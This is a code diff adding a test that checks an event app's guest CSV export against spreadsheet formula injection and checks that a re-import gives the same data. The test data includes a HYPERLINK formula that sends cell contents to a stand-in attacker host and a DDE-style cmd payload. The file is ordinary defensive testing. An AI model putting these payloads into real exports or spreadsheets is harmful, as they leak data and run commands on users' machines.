@@ -40,6 +40,51 @@ async function allGuests(eventId: string): Promise<GuestPage> {
   return (await t.request(`/api/events/${eventId}/guests?pageSize=25`, { cookie: host.cookie })).json();
 }
 
+describe("CSV export opened in a spreadsheet", () => {
+  it("writes formula-like cells as text, and reads them back unchanged", async () => {
+    const id = await newEvent();
+    const risky = [
+      ['=HYPERLINK("https://evil.example/?"&A2,"Click")', "hyper@example.com", ""],
+      ["+cmd|' /C calc'!A0", "calc@example.com", ""],
+      ["-Anna-", "anna@example.com", "+91 98450 12345"],
+      ["@SUM(1+1)", "at@example.com", ""],
+      ["\tTabby", "tab@example.com", ""],
+      ["Plain 'quoted' Name", "plain@example.com", ""],
+    ];
+    for (const [name, email, phone] of risky) {
+      await t.request(`/api/events/${id}/guests`, {
+        cookie: host.cookie,
+        json: { name, email, phone: phone || null, status: "invited" },
+      });
+    }
+    const exported = await (
+      await t.request(`/api/events/${id}/guests/export`, { cookie: host.cookie })
+    ).text();
+    // No cell starts with a formula character: each such cell begins with an apostrophe.
+    const cells = exported
+      .replace(/^\uFEFF/, "")
+      .trim()
+      .split("\n")
+      .slice(1)
+      .flatMap((line) => line.split(",").map((c) => c.replace(/^"/, "")));
+    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(exported).toContain("'=HYPERLINK(");
+    expect(exported).toContain("'+cmd|");
+    expect(exported).toContain("'-Anna-");
+    expect(exported).toContain("'+91 98450 12345");
+    expect(exported).toContain("Plain 'quoted' Name");
+
+    // The same file imported into another event gives the same names and phones.
+    const other = await newEvent();
+    const res = await importCsv(other, exported);
+    expect(res.status).toBe(200);
+    const people = async (eventId: string) =>
+      (await allGuests(eventId)).items.map((g) => [g.name, g.phone ?? ""]).sort();
+    expect(await people(other)).toEqual(await people(id));
+    expect((await people(other)).map(([name]) => name)).toContain("-Anna-");
+  });
+});
+
 describe("CSV import", () => {
   it("reads quoted commas, a BOM, CRLF, blank lines and extra columns; lowercases e-mails", async () => {
     const id = await newEvent();
